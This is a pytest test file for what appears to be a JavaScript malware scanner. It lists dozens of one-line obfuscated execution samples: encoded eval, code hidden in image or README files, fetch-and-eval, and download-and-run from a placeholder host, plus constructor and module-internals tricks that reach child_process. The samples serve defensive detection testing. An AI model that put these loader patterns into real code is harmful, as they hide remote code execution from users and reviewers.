"""What becomes code, a command or a module's name, by every road that is known: one line of JavaScript each."""

import pytest

from customhouse.source.javascript.reader import read_javascript

ROADS = [
    pytest.param("eval(atob('Y29uc29sZS5sb2coMSk='))", "eval", ("decoded",), id="atob"),
    pytest.param(
        "eval(Buffer.from('636f6e736f6c652e6c6f672831293b','hex').toString())", "eval", ("decoded",), id="hex buf"
    ),
    pytest.param(
        "const c=[99,111,110,115,111,108,101,46,108,111,103,40,49,41];eval(c.map(x=>String.fromCharCode(x)).join(''))",
        "eval",
        ("decoded",),
        id="charcodes map",
    ),
    pytest.param(
        "var s='';var c=[99,111,110,115,111,108,101];for(var i=0;i<c.length;i++){s+=String.fromCharCode(c[i])}eval(s)",
        "eval",
        ("decoded",),
        id="charcodes loop",
    ),
    pytest.param("eval(')1(gol.elosnoc'.split('').reverse().join(''))", "eval", ("decoded",), id="reversed"),
    pytest.param(
        "function d(s,k){let o='';for(let i=0;i<s.length;i++){o+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length))}return o}\neval(d('\\x10\\x20abc','key'))",
        "eval",
        ("decoded",),
        id="xor loop fn",
    ),
    pytest.param(
        "const d=(s,k)=>s.split('').map((c,i)=>String.fromCharCode(c.charCodeAt(0)^k)).join('');\neval(d('abcdef',7))",
        "eval",
        ("decoded",),
        id="xor map fn",
    ),
    pytest.param(
        "function d(b){const o=Buffer.alloc(b.length);for(let i=0;i<b.length;i++){o[i]=b[i]-3}return o.toString()}\neval(d(Buffer.from([1,2,3])))",
        "eval",
        ("decoded",),
        id="sub loop buffer",
    ),
    pytest.param(
        "const x=require('fs');function d(a){const r=new Uint8Array(a.length);for(let i=0;i<a.length;i++)r[i]=a[i]^0x5a;return new TextDecoder().decode(r)}\neval(d([1,2,3,4]))",
        "eval",
        ("decoded",),
        id="xor uint8",
    ),
    pytest.param(
        "const A='zyxwvutsrqponmlkjihgfedcba';function d(s){let o='';for(const c of s){o+=A[A.indexOf(c)+1]}return o}\neval(d('abc'))",
        "eval",
        ("decoded",),
        id="alphabet lookup",
    ),
    pytest.param(
        "function d(h){let s='';for(let i=0;i<h.length;i+=2){s+=String.fromCharCode(parseInt(h.substr(i,2),16))}return s}\nrequire('child_process').exec(d('6c73'))",
        "child_process.exec",
        ("decoded",),
        id="hex parse loop",
    ),
    pytest.param(
        "const w={apple:'c',bear:'u',cat:'r',dog:'l'};const t='apple bear cat dog'.split(' ').map(x=>w[x]).join('');require('child_process').execSync(t)",
        "child_process.execSync",
        ("decoded",),
        id="wordlist",
    ),
    pytest.param(
        "const c=require('crypto');const d=c.createDecipheriv('aes-256-cbc',Buffer.from('00','hex'),Buffer.from('11','hex'));let s=d.update('abcd','hex','utf8');s+=d.final('utf8');eval(s)",
        "eval",
        ("decoded",),
        id="aes key in pkg",
    ),
    pytest.param(
        "eval(require('zlib').inflateSync(Buffer.from('eJxLzs8rzs9J1UvOz0/RMNTUAgA','base64')).toString())",
        "eval",
        ("decoded",),
        id="zlib",
    ),
    pytest.param(
        "const z=require('zlib');const v=require('vm');v.runInThisContext(z.brotliDecompressSync(Buffer.from('iwA','base64')).toString())",
        "vm.runInThisContext",
        ("decoded",),
        id="brotli",
    ),
    pytest.param("Reflect.apply(eval,null,[atob('Y29uc29sZQ==')])", "eval", ("decoded",), id="Reflect.apply"),
    pytest.param(
        "const M=require('module');const m=new M('x');m._compile(atob('Y29uc29sZS5sb2coMSk='),'x')",
        "module._compile",
        ("decoded",),
        id="module._compile",
    ),
    pytest.param(
        "const vm=require('vm');new vm.Script(Buffer.from('YQ==','base64').toString()).runInThisContext()",
        "vm.Script",
        ("decoded",),
        id="vm script",
    ),
    pytest.param(
        "const {Worker}=require('worker_threads');new Worker(atob('Y29uc29sZQ=='),{eval:true})",
        "worker_threads.Worker",
        ("decoded",),
        id="worker eval",
    ),
    pytest.param(
        "import('data:text/javascript;base64,Y29uc29sZS5sb2coMSk=')", "import", ("decoded",), id="import data"
    ),
    pytest.param(
        "const b='Y29uc29sZS5sb2coMSk=';import('data:text/javascript;base64,'+b)",
        "import",
        ("decoded",),
        id="import data var",
    ),
    pytest.param("eval(require('fs').readFileSync('./logo.png','utf8'))", "eval", ("file",), id="eval readfile png"),
    pytest.param(
        "const fs=require('fs'),path=require('path');const d=fs.readFileSync(path.join(__dirname,'logo.png'));const s=d.slice(100).toString('utf8');new Function(s)()",
        "Function",
        ("file", "self"),
        id="eval readfile slice",
    ),
    pytest.param(
        "const fs=require('fs');module._compile(fs.readFileSync(__dirname+'/README.md','utf8'),'x.js')",
        "module._compile",
        ("file", "self"),
        id="require md compile",
    ),
    pytest.param("const d=require('./data.json');eval(d.x)", "eval", ("file",), id="json field"),
    pytest.param(
        "const d=require('./data.json');eval(Buffer.from(d.x,'base64').toString())",
        "eval",
        ("decoded", "file"),
        id="json field dec",
    ),
    pytest.param(
        "fetch('http://x.invalid/a').then(r=>r.text()).then(t=>eval(t))", "eval", ("network",), id="fetch eval"
    ),
    pytest.param(
        "(async()=>{const r=await fetch('http://x.invalid/a');const t=await r.text();new Function('require',t)(require)})()",
        "Function",
        ("network",),
        id="fetch await Function",
    ),
    pytest.param(
        "require('https').get('http://x.invalid',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})",
        "eval",
        ("network",),
        id="https eval",
    ),
    pytest.param(
        "const fs=require('fs'),cp=require('child_process');fetch('http://x.invalid/a').then(r=>r.arrayBuffer()).then(b=>{fs.writeFileSync('/tmp/x',Buffer.from(b));cp.spawn('/tmp/x')})",
        "child_process.spawn",
        ("network",),
        id="fetch write spawn",
    ),
    pytest.param(
        "const https=require('https'),fs=require('fs'),{execFile}=require('child_process');const f=fs.createWriteStream('/tmp/a');https.get('https://x.invalid/a',r=>{r.pipe(f);f.on('finish',()=>{fs.chmodSync('/tmp/a',0o755);execFile('/tmp/a')})})",
        "child_process.execFile",
        ("network",),
        id="download pipe spawn",
    ),
    pytest.param(
        "require('child_process').spawn(process.execPath,['-e',Buffer.from('YQ==','base64').toString()])",
        "child_process.spawn",
        ("decoded",),
        id="spawn node -e",
    ),
    pytest.param("setTimeout(atob('YWxlcnQoMSk='),10)", "setTimeout", ("decoded",), id="setTimeout str"),
    pytest.param(
        "var m=new module.constructor();m._compile(Buffer.from(x,'base64').toString(),'')",
        "module._compile",
        ("decoded",),
        id="new module.constructor",
    ),
    pytest.param("const o={r:eval};o.r(atob('YWxlcnQoMSk='))", "eval", ("decoded",), id="fn in obj"),
    pytest.param("['YWxlcnQoMSk='].map(atob).forEach(eval)", "eval", ("decoded",), id="array map eval"),
    pytest.param("(0,eval)(atob('YWxlcnQoMSk='))", "eval", ("decoded",), id="indirect (0,eval)"),
    pytest.param(
        "const s=v=>[...v].map(c=>c.codePointAt(0)-0xe0100).filter(x=>x>=0);eval(Buffer.from(s(`󠅓󠅟󠅞`)).toString())",
        "eval",
        ("decoded",),
        id="invisible",
    ),
    pytest.param(
        "function code(){const parts=['Y29u','c29s','ZQ=='];return Buffer.from(parts.join(''),'base64').toString()}\neval(code())",
        "eval",
        ("decoded",),
        id="cross fn return",
    ),
    pytest.param(
        "class D{static d(s){let o='';for(let i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^42);return o}}\neval(D.d('abc'))",
        "eval",
        ("decoded",),
        id="class method",
    ),
    pytest.param(
        "const u={d(s){return s.replace(/./g,c=>String.fromCharCode(c.charCodeAt(0)-1))}};eval(u.d('bcd'))",
        "eval",
        ("decoded",),
        id="fn expr obj",
    ),
    pytest.param(
        "const k=process.env.npm_package_description;const c=require('crypto').createDecipher('aes256',k);let d=c.update(require('./test/data')[0],'hex','utf8');d+=c.final('utf8');module._compile(d,'')",
        "module._compile",
        ("decoded",),
        id="parent pkg key",
    ),
    pytest.param(
        "const CryptoJS=require('crypto-js');eval(CryptoJS.AES.decrypt('U2Fsd','k').toString(CryptoJS.enc.Utf8))",
        "eval",
        ("decoded",),
        id="cryptojs",
    ),
    pytest.param("Bun.spawn(['bun','-e',atob('YWxlcnQoMSk=')])", "Bun.spawn", ("decoded",), id="Bun eval"),
    pytest.param(
        "require('child_process').execSync(`node -e \"${atob('YWxlcnQoMSk=')}\"`)",
        "child_process.execSync",
        ("decoded",),
        id="npm run",
    ),
]

WAYS = [
    pytest.param("globalThis['ev'+'al']('require(\"fs\")')", ("put-together", "eval"), id="globalThis ev+al"),
    pytest.param(
        "[]['constructor']['constructor']('return process.env')()",
        ("constructor", "Function"),
        id="[].constructor.constructor",
    ),
    pytest.param(
        "[].filter.constructor('return 1+process.pid')()", ("constructor", "Function"), id="filter.constructor"
    ),
    pytest.param(
        "const A=(async()=>{}).constructor; new A('await fetch(\"http://x.invalid\")')()",
        ("constructor", "Function"),
        id="async ctor",
    ),
    pytest.param(
        "const A=Object.getPrototypeOf(async function(){}).constructor; A('x()')()",
        ("constructor", "Function"),
        id="async getproto",
    ),
    pytest.param(
        "Reflect.construct(Function,['return require'])()", ("reflection", "Function"), id="Reflect.construct"
    ),
    pytest.param("Reflect.apply(eval,null,[atob('Y29uc29sZQ==')])", ("reflection", "eval"), id="Reflect.apply"),
    pytest.param(
        "module.constructor._load('child_process').exec('id')", ("internals", "module._load"), id="module._load"
    ),
    pytest.param(
        "require('module')._load('child_process').exec('id')", ("internals", "module._load"), id="Module._load"
    ),
    pytest.param(
        "const M=require('module');const m=new M('x');m._compile(atob('Y29uc29sZS5sb2coMSk='),'x')",
        ("internals", "module._compile"),
        id="module._compile",
    ),
    pytest.param(
        "process.binding('spawn_sync').spawn({file:'sh'})", ("internals", "process.binding"), id="process.binding"
    ),
    pytest.param("process.dlopen({exports:{}},'./a.node')", ("internals", "process.dlopen"), id="dlopen"),
    pytest.param(
        "process.mainModule.require('child_process').execSync('id')",
        ("internals", "process.mainModule"),
        id="mainModule.require",
    ),
    pytest.param(
        "const c='constructor';const o={};o[c][c]('return process')()", ("constructor", "Function"), id="var ctor"
    ),
    pytest.param(
        "(function*(){}).constructor(atob('YWxlcnQoMSk='))().next()", ("constructor", "Function"), id="generator ctor"
    ),
    pytest.param(
        "function f(){};f.constructor(atob('YWxlcnQoMSk='))()", ("constructor", "Function"), id="fn.constructor"
    ),
    pytest.param("Object.constructor(atob('YWxlcnQoMSk='))()", ("constructor", "Function"), id="Object ctor"),
]


@pytest.mark.parametrize(("text", "callee", "origins"), ROADS)
def test_where_it_came_from_is_told(text, callee, origins):
    facts = read_javascript("a.js", text.encode(), "javascript")
    assert (callee, origins) in {(each.callee, each.origins) for each in facts.calls}


@pytest.mark.parametrize(("text", "way"), WAYS)
def test_a_roundabout_way_is_told(text, way):
    facts = read_javascript("a.js", text.encode(), "javascript")
    assert way in {(each.how, each.callee) for each in facts.indirections}


QUIET = [
    pytest.param("module.exports = eval('quire'.replace(/^/, 're'))('fs')", id="protobufjs"),
    pytest.param("eval('console.log(1)//# sourceURL=webpack:///./a.js')", id="webpack"),
    pytest.param("const f = new Function('data', 'return `' + template + '`')", id="template engine"),
    pytest.param("const v = require('./package.json').version; eval('1')", id="own version"),
    pytest.param("module.exports = [99, 111].map((code) => String.fromCharCode(code)).join('')", id="never executed"),
    pytest.param("queue.push(queue.shift()); eval('1')", id="a queue"),
    pytest.param("const A = (async () => {}).constructor; module.exports = (f) => f instanceof A", id="compared"),
]


@pytest.mark.parametrize("text", QUIET)
def test_ordinary_code_is_neither_hidden_nor_roundabout(text):
    facts = read_javascript("a.js", text.encode(), "javascript")
    assert all("decoded" not in call.origins and "file" not in call.origins for call in facts.calls)
    assert facts.indirections == ()
    assert facts.obfuscation == ()


def test_what_goes_into_web_assembly_is_no_text_and_nothing_hides_behind_it():
    def origins(text):
        calls = read_javascript("a.js", text.encode(), "javascript").calls
        return {origin for call in calls if call.callee == "eval" for origin in call.origins}

    lexer = "let w; WebAssembly.compile((E = K, Uint8Array.from(atob(E)))).then(WebAssembly.instantiate).then((m) => { w = m });"
    assert origins(f"{lexer} eval(text.slice(w.start(), w.end()))") == set()
    assert origins("WebAssembly.compile(b = atob(x)); eval(b)") == {"decoded"}
    assert origins("WebAssembly.compile((0, eval)(atob(x)))") == {"decoded"}
